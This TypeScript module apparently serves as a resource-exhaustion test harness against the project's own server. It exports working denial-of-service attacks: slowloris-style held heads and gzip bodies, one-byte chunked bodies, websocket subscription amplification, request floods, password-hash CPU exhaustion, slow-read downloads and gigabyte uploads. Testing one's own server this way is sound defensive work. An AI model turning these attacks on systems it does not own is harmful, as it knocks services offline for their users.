/** More attacks that the issue does not name: on what the server keeps for each connection before anybody is known. */
import { gzipSync } from "node:zlib";
import {
  begin,
  connectMessage,
  failureOf,
  openConnection,
  openSocket,
  pause,
  post,
  repeat,
  signIn,
  untilClosed,
} from "./target.ts";
import type { Acknowledged, Attack, Target } from "./target.ts";

const LIST = { paginationOpts: { numItems: 10, cursor: null } };
const HOLDERS = 3_000;

/** Large heads of requests whose bodies never end. */
export const heldHeads: Attack = (target) =>
  repeat(target, HOLDERS, async () => {
    const sent = begin(target, "/api/query", { cookie: "x".repeat(15_000) });
    sent.write("{");
    await Promise.race([pause(20_000), failureOf(sent)]);
    sent.destroy();
  });

/** Compressed bodies that never end, each of which has a window of its own to be inflated in. */
export const heldBodies: Attack = (target) => {
  const start = gzipSync(Buffer.from("x".repeat(100))).subarray(0, 20);
  return repeat(target, HOLDERS, async () => {
    const sent = begin(target, "/api/query", { "content-encoding": "gzip" });
    sent.write(start);
    await Promise.race([pause(20_000), failureOf(sent)]);
    sent.destroy();
  });
};

/** Sockets with compression in both directions, which each keep what it takes. */
export const compressedSockets: Attack = (target) =>
  repeat(target, 1_000, async () => {
    const socket = await openSocket(target, {
      headers: { host: "192.0.2.1" },
      perMessageDeflate: { threshold: 0 },
    });
    socket.send(connectMessage());
    // The answer tells what was asked for, and is long enough to be compressed.
    socket.send(
      JSON.stringify({ type: "Mutation", requestId: 0, udfPath: `no:${"x".repeat(400)}`, args: [{}] }),
    );
    await untilClosed(socket);
  });

/** Bodies in chunks of one byte. */
export const tinyChunks: Attack = (target) => {
  const head =
    "POST /api/query HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
  const chunks = "1\r\nx\r\n".repeat(10_000);
  return repeat(target, 16, async () => {
    const socket = await openConnection(target);
    socket.write(head);
    const closed = untilClosed(socket);
    while (!socket.destroyed)
      await Promise.race([new Promise((resolve) => socket.write(chunks, resolve)), closed]);
  });
};

/** One guest's page of 1 MB, watched by one socket as often as it may. */
export const copies: Attack = async (target) => {
  const token = await signIn(target);
  const mutation = async (path: string, args: object): Promise<Omit<Acknowledged, "token">> => {
    const answer = await post(target, "/api/mutation", JSON.stringify({ path, args }), {
      authorization: `Bearer ${token}`,
    });
    return (JSON.parse(answer) as { value: Omit<Acknowledged, "token"> }).value;
  };
  let taskId: string | null = null;
  for (let i = 0; i < 5; i++) {
    const content = "\u4e2d".repeat(100_000);
    ({ taskId } = await mutation("messages:send", { taskId, clientMessageId: crypto.randomUUID(), content }));
    await mutation("streaming:stopTask", { taskId });
  }
  const modifications = Array.from({ length: 400 }, (_, queryId) => ({
    ...{ type: "Add", queryId, udfPath: "messages:list" },
    args: [{ taskId, ...LIST }],
  }));
  await repeat(target, 8, async () => {
    const socket = await openSocket(target, { perMessageDeflate: false });
    socket.send(connectMessage());
    socket.send(JSON.stringify({ type: "Authenticate", tokenType: "User", baseVersion: 0, value: token }));
    socket.send(JSON.stringify({ type: "ModifyQuerySet", baseVersion: 0, newVersion: 1, modifications }));
    await Promise.race([untilClosed(socket), pause(5_000)]);
    socket.terminate();
  });
};

/** Thousands of connections, each with one small request after the other. */
export const requestFlood: Attack = (target) =>
  repeat(target, 2_000, async () => {
    const socket = await openConnection(target);
    const request = "GET /version HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
    socket.on("data", () => socket.write(request));
    socket.write(request);
    await untilClosed(socket);
  });

/** Wrong passwords of ever new people, and wrong invitations: each costs a hash on a thread that everybody's tokens are checked on. */
export const guesses: Attack = (target) =>
  repeat(target, 250, async (line) => {
    const login = crypto.randomUUID();
    const account = { name: login, login, password: "correct horse battery" };
    const params =
      line % 2 === 0
        ? { flow: "signIn", ...account }
        : { flow: "register", ...account, right: { kind: "invitation", secret: login } };
    const call = { path: "auth:signIn", args: { provider: "password", params } };
    await post(target, "/api/action", JSON.stringify(call));
  });

/** One guest's picture of 9 MB, downloaded thousands of times by somebody who hardly reads it. */
export const unreadDownloads: Attack = async (target) => {
  const { port, pathname } = new URL(await uploadPicture(target, await signIn(target)));
  await repeat(target, 4_000, async () => {
    const socket = await openConnection(target);
    socket.write(`GET ${pathname} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`);
    socket.pause();
    const closed = untilClosed(socket);
    while (!socket.destroyed) {
      await Promise.race([pause(5_000), closed]);
      socket.read();
    }
  });
};

async function uploadPicture(target: Target, token: string): Promise<string> {
  const size = 9 * 1024 * 1024;
  const authorization = `Bearer ${token}`;
  const ask = async <T>(kind: string, path: string, args: object): Promise<T> =>
    (
      JSON.parse(await post(target, `/api/${kind}`, JSON.stringify({ path, args }), { authorization })) as {
        value: T;
      }
    ).value;
  const place = await ask<{ url: string; contentType: string }>("mutation", "attachments:generateUploadUrl", {
    ...{ filename: "large.png", mediaType: "image/png", size },
  });
  const { pathname, search } = new URL(place.url);
  const stored = await post(target, pathname + search, Buffer.alloc(size), {
    "content-type": place.contentType,
  });
  const { storageId } = JSON.parse(stored) as { storageId: string };
  await ask("mutation", "attachments:add", { taskId: null, storageId, filename: "large.png" });
  const [file] = await ask<{ url: string }[]>("query", "attachments:listDraft", { taskId: null });
  return file?.url ?? "";
}

/** Bodies of a gigabyte, announced to whoever asks for them, that nobody wants. */
export const unwantedBodies: Attack = (target) => {
  const megabyte = Buffer.alloc(1024 * 1024);
  const head = "HTTP/1.1\r\nHost: 127.0.0.1\r\nExpect: 100-continue\r\nContent-Length: 1000000000\r\n\r\n";
  return repeat(target, 16, async (line) => {
    const socket = await openConnection(target);
    socket.write(`POST ${line % 2 === 0 ? "/none" : "/api/query"} ${head}`);
    const closed = untilClosed(socket);
    for (let i = 0; i < 953 && !socket.destroyed; i++)
      await Promise.race([new Promise((resolve) => socket.write(megabyte, resolve)), closed]);
    socket.destroy();
  });
};
